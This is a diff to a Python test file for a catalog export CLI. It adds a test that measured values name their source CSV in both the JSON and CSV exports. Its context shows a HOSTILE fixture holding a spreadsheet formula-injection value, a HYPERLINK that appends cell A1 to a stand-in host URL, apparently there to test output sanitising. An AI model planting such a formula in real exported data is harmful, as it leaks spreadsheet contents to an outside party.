@@ -10,7 +10,7 @@ from pathlib import Path
 from generator.model.export import spreadsheet_safe
 from tests.support import journey, write_catalog
 
-from .test_validate_cli import run
+from .test_validate_cli import REPO, run
 
 HOSTILE = {
     "title": '=HYPERLINK("http://x.example/?"&A1,"Click")',
@@ -128,3 +128,22 @@ def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
     assert done.stderr.endswith(
         "journeys: cannot write the tables to taken/tables/: Not a directory\n"
     )
+
+
+def test_measured_values_name_their_file_from_the_catalog_root(tmp_path: Path) -> None:
+    catalog = (REPO / "journeys").absolute()
+    done = run("export", "--catalog", str(catalog), cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    journeys = json.loads(done.stdout)["journeys"]
+    files = {
+        point["measured_in"]
+        for journey in journeys
+        for stage in journey["stages"]
+        for score in [*stage["metrics"], *(m for t in stage["touchpoints"] for m in t["metrics"])]
+        for point in score["history"]
+    }
+    assert files == {None, "measurements/survey-scores-2025q4-2026q3.csv"}
+    tables = run("export", "--catalog", str(catalog), "--format", "csv", "--out", "t", cwd=tmp_path)
+    assert tables.returncode == 0, tables.stderr
+    rows = read(tmp_path / "t" / "metrics.csv")
+    assert {r["measured_in"] for r in rows} == {"", "measurements/survey-scores-2025q4-2026q3.csv"}
